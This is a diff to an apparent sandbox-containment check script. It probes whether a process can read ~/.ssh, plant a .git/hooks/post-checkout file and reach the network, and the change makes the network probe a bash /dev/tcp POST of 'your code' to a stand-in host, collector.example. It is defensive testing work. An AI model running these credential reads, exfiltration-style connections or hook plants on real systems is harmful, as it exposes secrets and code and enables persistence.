@@ -47,11 +47,16 @@ if cat ~/.ssh/* >/dev/null 2>&1; then
 else
     tried read "~/.ssh" false "not there: this home is empty"
 fi
-if (echo > /dev/tcp/192.0.2.1/443) 2>/dev/null; then
-    tried connect "192.0.2.1:443" true "REACHED THE NETWORK"
-else
-    tried connect "192.0.2.1:443" false "no network"
-fi
+answer=$(
+    exec 3<>/dev/tcp/collector.example/80 || exit
+    printf 'POST /your-code HTTP/1.1\r\nHost: collector.example\r\nContent-Length: 0\r\n\r\n' >&3
+    read -r -t 10 line <&3 && echo "$line"
+) 2>/dev/null
+case $answer in
+    '') tried send "your code to collector.example" false "no network" ;;
+    *" 403 "*) tried send "your code to collector.example" false "refused by the policy" ;;
+    *) tried send "your code to collector.example" true "REACHED THE NETWORK" ;;
+esac
 if mkdir -p .git/hooks && touch .git/hooks/post-checkout && [ -d /ags/base ]; then
     tried write ".git/hooks" true "into a git folder of its own: your repository's is not here"
 else
